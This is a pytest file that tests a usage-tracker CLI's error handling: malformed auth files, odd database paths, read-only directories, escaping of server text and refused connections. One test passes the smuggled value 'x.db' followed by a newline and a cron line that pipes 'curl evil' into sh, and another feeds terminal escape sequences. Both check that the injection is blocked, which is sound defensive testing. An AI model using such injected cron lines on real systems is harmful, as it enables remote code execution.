"""Wrong results and misclassified errors: each is a user-facing line with the right exit code,
never "internal error, please report it"."""

from __future__ import annotations

import json
import os
import stat
from datetime import timedelta
from pathlib import Path

import pytest

from tests.fixtures import LOG_T0 as T0
from tests.fixtures import (
    USAGE_PATH,
    make_read_only,
    one_line_error,
    run,
    session_line,
    sqlite_rows,
    tokens_for,
    undo_read_only,
    usage_body,
    write_auth,
    write_log,
)
from tracker.storage.store import Store

# -- values that overflow or are not finite, from a session log ------------------------------------


@pytest.mark.parametrize("window", [{"window_minutes": 1e200}, {"window_minutes": 1e308}])
def test_overflowing_session_values_are_stored_not_crashed_on(tmp_path, window):
    home = tmp_path / ".codex"
    write_log(home / "sessions/rollout-x.jsonl", [session_line(1, window=window), session_line(2)])
    result = run("import-sessions", "--codex-home", home, "--db", tmp_path / "o.db", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["imported"] == 2


# -- a file name that is not UTF-8 -------------------------------------------------------------------


def test_a_file_name_that_is_not_utf8_is_skipped_and_counted(tmp_path):
    homes = [tmp_path / "h1", tmp_path / "h2"]
    for i, home in enumerate(homes):
        write_log(home / "sessions/rollout-ok.jsonl", [session_line(10 * i + 1)])
    bad = os.fsencode(homes[0] / "sessions") + b"/rollout-\xff\xfe.jsonl"
    with open(bad, "w") as handle:
        handle.write(session_line(5) + "\n")
    result = run("import-sessions", "--codex-home", f"a={homes[0]}", "--codex-home", f"b={homes[1]}",
                 "--db", tmp_path / "n.db", "--json")
    summary = json.loads(result.stdout)
    assert result.exit_code == 0 and summary["imported"] == 2
    assert summary["skipped"] == {"name_not_utf8": 1}


# -- auth files that are valid JSON but not what we expect --------------------------------------------


def odd_auth(case: str) -> str:
    tokens = tokens_for(f"odd-{case}")
    if case == "id_token number":
        tokens["id_token"] = 12345
    elif case == "id_token list":
        tokens["id_token"] = ["a", "b"]
    elif case == "non-ascii token":
        tokens["access_token"] = "ñ" + tokens["access_token"]
    if case == "100k-deep JSON":
        return '{"tokens": ' + "[" * 100_000 + "]" * 100_000 + "}"
    return json.dumps({"tokens": tokens})


@pytest.mark.parametrize("case", ["id_token number", "id_token list", "non-ascii token", "100k-deep JSON"])
def test_odd_auth_files_are_auth_problems(httpserver, tmp_path, case):
    (tmp_path / "acc").mkdir()
    (tmp_path / "acc" / "x.auth.json").write_text(odd_auth(case))
    httpserver.expect_request(USAGE_PATH).respond_with_json(usage_body())
    result = run("collect", "--account-dir", tmp_path / "acc", "--url", httpserver.url_for(USAGE_PATH),
                 "--db", tmp_path / "a.db", "--json")
    row = json.loads(result.stdout)[0]
    if case.startswith("id_token"):  # the id token is optional: the account still works
        assert (result.exit_code, row["status"]) == (0, "ok")
    else:
        assert (result.exit_code, row["status"]) == (1, "auth_error")
    assert "internal error" not in result.output


# -- in-memory and URI databases ------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["sqlite://", "sqlite:///:memory:"])
def test_an_in_memory_database_is_refused_for_commands_that_store(httpserver, tmp_path, url):
    write_auth(tmp_path / "acc" / "x.auth.json", "x")
    httpserver.expect_request(USAGE_PATH).respond_with_json(usage_body())
    result = run("collect", "--account-dir", tmp_path / "acc", "--url", httpserver.url_for(USAGE_PATH), "--db", url)
    one_line_error(result, 4, "in-memory database keeps nothing")


def test_a_uri_database_is_created_private(httpserver, tmp_path):
    write_auth(tmp_path / "acc" / "x.auth.json", "x")
    httpserver.expect_request(USAGE_PATH).respond_with_json(usage_body())
    db = tmp_path / "uri.db"
    result = run("collect", "--account-dir", tmp_path / "acc", "--url", httpserver.url_for(USAGE_PATH),
                 "--db", f"sqlite:///file:{db}?uri=true", "-q")
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    assert not (tmp_path / "file:").exists()


# -- a writable database in a read-only directory ----------------------------------------------------------


def test_readers_work_in_a_read_only_directory(httpserver, tmp_path):
    write_auth(tmp_path / "acc" / "x.auth.json", "x")
    httpserver.expect_request(USAGE_PATH).respond_with_json(usage_body())
    folder = tmp_path / "ro"
    folder.mkdir()
    db = folder / "t.db"
    run("collect", "--account-dir", tmp_path / "acc", "--url", httpserver.url_for(USAGE_PATH), "--db", db, "-q")
    make_read_only(folder)
    try:
        results = [run(*args, "--db", db) for args in (["report"], ["history"], ["export"])]
    finally:
        undo_read_only(folder)
    for result in results:
        assert result.exit_code == 0 and "x" in result.stdout, result.output


# -- server text reaches the terminal escaped ----------------------------------------------------------------


def test_control_characters_from_the_server_are_escaped(httpserver, tmp_path):
    accounts = tmp_path / "acc"
    write_auth(accounts / "a.auth.json", "a")
    write_auth(accounts / "b.auth.json", "b")
    httpserver.expect_request(USAGE_PATH, headers={"ChatGPT-Account-Id": "acc-a"}).respond_with_json(
        {**usage_body(), "plan_type": "\x1b[2J\x1b[31mpro\u202e"})
    httpserver.expect_request(USAGE_PATH, headers={"ChatGPT-Account-Id": "acc-b"}).respond_with_data(
        "\x1b]0;owned\x07\x1b[31mdown", status=500)
    db = tmp_path / "esc.db"
    collected = run("collect", "--account-dir", accounts, "--url", httpserver.url_for(USAGE_PATH), "--db", db,
                    "--retries", "0")
    shown = [collected, run("history", "--db", db), run("history", "--db", db, "--errors"), run("report", "--db", db)]
    for result in shown:
        assert "\x1b" not in result.output and "\u202e" not in result.output and "\x07" not in result.output
    assert "\\x1b[31mpro" in collected.stdout


# -- a scheduler line cannot be injected (fake_crontab: conftest.py) -------------------------------------------


@pytest.mark.parametrize("args", [["--db", "x.db\n* * * * * curl evil | sh"], ["--account-dir", "a\rb"]])
def test_a_newline_never_reaches_the_crontab(fake_crontab, args):
    result = run("schedule", "install", "--scheduler", "cron", *args)
    one_line_error(result, 2, "newline")
    assert fake_crontab.read_text() == "0 3 * * * /usr/bin/backup\n"


def test_schedule_pins_absolute_paths(fake_crontab, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run("schedule", "install", "--scheduler", "cron", "--db", "demo.db", "--account-dir", "./accts",
                 "--codex-home", "w=~/.codex-work")
    assert result.exit_code == 0, result.output
    line = fake_crontab.read_text().splitlines()[1]
    assert f"TRACKER_DB='{tmp_path / 'demo.db'}'" in (Path(os.environ["TRACKER_HOME"]) / "schedule.env").read_text()
    assert f"--account-dir {tmp_path / 'accts'} " in line
    assert f"--codex-home w={os.path.expanduser('~/.codex-work')} " in line


def test_auto_mode_needs_a_scheduler_that_exists(monkeypatch):
    import tracker.cli.schedule

    monkeypatch.setattr(tracker.cli.schedule.shutil, "which", lambda name: None)
    monkeypatch.setattr(tracker.cli.schedule.sys, "platform", "linux")
    one_line_error(run("schedule", "install"), 2, "--scheduler")  # names the way out, not a database code
    printed = run("schedule", "install", "--print")  # what this kind of system would get
    assert printed.exit_code == 0 and "scheduler: cron" in printed.stdout


# -- a dropped alembic_version table -----------------------------------------------------------------------


def test_a_dropped_version_table_is_named(httpserver, tmp_path):
    db = tmp_path / "d.db"
    Store.open(f"sqlite:///{db}").close()
    import sqlite3

    with sqlite3.connect(db) as conn:
        conn.execute("drop table alembic_version")
    conn.close()
    write_auth(tmp_path / "acc" / "x.auth.json", "x")
    httpserver.expect_request(USAGE_PATH).respond_with_json(usage_body())
    for args in (["collect", "--account-dir", tmp_path / "acc", "--url", httpserver.url_for(USAGE_PATH)],
                 ["report"], ["db", "upgrade"]):
        result = run(*args, "--db", db)
        one_line_error(result, 4, "no alembic_version table (was it dropped?)")


# -- connection refused ---------------------------------------------------------------------------------------


def test_connection_refused_names_host_and_port_and_is_stored(tmp_path):
    import socket

    with socket.socket() as probe:  # a port that nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    write_auth(tmp_path / "acc" / "x.auth.json", "x")
    db = tmp_path / "c.db"
    result = run("collect", "--account-dir", tmp_path / "acc", "--url", f"http://127.0.0.1:{port}/backend-api/wham/usage",
                 "--db", db, "--retries", "0", "-q")
    assert result.exit_code == 2
    assert result.stderr.strip() == f"tracker: x: network_error: connection refused by 127.0.0.1:{port}"
    assert sqlite_rows(db, "select message from failures") == [(f"connection refused by 127.0.0.1:{port}",)]


# -- the same Codex home, the same name --------------------------------------------------------------------


def test_the_default_codex_home_has_one_name_in_collect_and_import(httpserver, tmp_path, isolated_env):
    home = isolated_env / ".codex"
    write_auth(home / "auth.json", "me")
    write_log(home / "sessions/rollout-a.jsonl", [session_line(1)])
    httpserver.expect_request(USAGE_PATH).respond_with_json(usage_body())
    db = tmp_path / "same.db"
    for args in (["collect", "--url", httpserver.url_for(USAGE_PATH), "-q"],
                 ["collect", "--codex-home", f"{home}/", "--url", httpserver.url_for(USAGE_PATH), "-q"],
                 ["import-sessions"], ["import-sessions", "--codex-home", str(home)]):
        assert run(*args, "--db", db).exit_code == 0
    assert sqlite_rows(db, "select name from accounts") == [("default",)]


# -- a session line with only a relative reset ------------------------------------------------------------


def test_repeated_session_limits_with_a_relative_reset_count_from_their_own_line(tmp_path):
    home = tmp_path / ".codex"
    window = {"resets_at": None, "reset_after_seconds": 600}
    write_log(home / "sessions/rollout-r.jsonl", [session_line(0, window=window), session_line(10, window=window)])
    db = tmp_path / "r.db"
    assert run("import-sessions", "--codex-home", home, "--db", db).exit_code == 0
    resets = [r for (r,) in sqlite_rows(db, "select reset_at from windows order by collected_at")]
    assert resets == [int((T0 + timedelta(minutes=m, seconds=600)).timestamp()) for m in (0, 10)]
